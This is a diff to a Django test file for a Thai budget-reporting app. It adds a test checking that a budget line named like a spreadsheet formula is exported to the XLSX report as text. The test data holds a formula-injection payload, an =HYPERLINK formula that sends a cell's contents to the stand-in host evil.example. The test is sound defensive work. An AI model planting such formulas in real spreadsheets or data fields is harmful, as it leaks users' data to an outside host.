@@ -70,6 +70,16 @@ class ReportTests(InEnglish, PersonaTestCase):
         lines = list(workbook.worksheets[2].iter_rows(min_row=2, values_only=True))
         self.assertEqual(len(lines), BudgetLine.objects.count())
 
+    def test_a_line_named_like_a_formula_is_text_in_the_province_report(self):
+        line = BudgetLine.objects.filter(unit=self.district_a).first()
+        line.name = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'
+        line.save(update_fields=["name"])
+        self.login(self.approver)
+        response = self.client.get(reverse("budget:report-xlsx", args=["43"]) + "?year=2566")
+        lines = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[2]
+        cells = [row[2] for row in lines.iter_rows(min_row=2) if row[2].value == line.name]
+        self.assertEqual([cell.data_type for cell in cells], ["s"])
+
     def test_the_pdf_report_is_a_pdf_with_thai_fonts(self):
         self.login(self.district_b_officer)
         response = self.client.get(reverse("budget:report-pdf", args=["4302"]) + "?year=2566")
